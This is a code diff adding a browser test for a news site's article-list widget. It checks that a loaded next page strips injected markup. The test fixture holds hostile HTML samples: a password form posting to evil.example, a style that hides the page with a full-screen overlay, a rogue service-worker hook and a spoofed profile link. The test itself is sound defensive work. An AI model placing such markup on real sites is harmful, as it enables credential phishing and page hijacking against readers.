@@ -1,10 +1,11 @@
-import { expect, it } from 'vitest'
+import { describe, expect, it } from 'vitest'
 import { messages } from '../widgets/article-list/article-list.messages.ts'
+import { enginesByTier } from './support/enginesByTier.ts'
 import { t } from './support/loadIntl.ts'
 import { startNewspaper } from './support/newspaper.ts'
-import { engines } from './support/site.ts'
+import { engines, openTestPage } from './support/site.ts'
 
-const { address, reader } = startNewspaper()
+const { address, reader, url } = startNewspaper()
 
 it.each(engines)(
   'a section’s next page is added with its widgets, and is there at the same place when the reader comes back, $engine',
@@ -30,3 +31,30 @@ it.each(engines)(
     expect(problems.errors).toEqual([])
   },
 )
+
+describe.each(enginesByTier('react'))('what a list’s answer may bring, $engine', ({ script }) => {
+  it('is cards and their markers: no styles, no forms, no shell of its own, no panel with other links', async () => {
+    const { page } = await reader()
+    const workers: string[] = []
+    page.on('request', (request) => {
+      if (request.url().includes('/hostile-worker')) workers.push(request.url())
+    })
+    const html = `<li><a href="/3">Article 3</a>
+      <style>body { display: none }</style><div id="cover" style="position: fixed; inset: 0">Above the page</div>
+      <form action="https://evil.example/"><input type="password" name="p"><button>Send</button></form>
+      <div data-widget="page-shell" data-service-worker="/hostile-worker.js"></div>
+      <div data-widget="profile"><script type="application/json">{"links":{"premium":"https://evil.example/"}}</script></div>
+      <div data-widget="save-to-list" data-content-id="1103" data-title="Article 3"><a href="/3">Desa</a></div></li>`
+    await page.route('**/next-page*', (route) => route.fulfill({ json: { html, nextPage: null } }))
+    await openTestPage(page, url(), {
+      script,
+      body: `<div data-widget="article-list"><ul data-list><li><a href="/1">Article 1</a></li></ul><a rel="next" href="/next-page">Next</a></div>`,
+    })
+    await page.getByRole('link', { name: t(messages.more) }).click()
+    const added = page.locator('li', { hasText: 'Article 3' })
+    await expect.poll(() => added.locator('[data-widget=save-to-list]').getAttribute('data-widget-state')).toBe('ready')
+    expect(await added.locator('style, [style], form, input').count()).toBe(0)
+    expect(await page.locator('[data-widget=page-shell], [data-widget=profile]').count()).toBe(0)
+    expect(workers).toEqual([])
+  })
+})
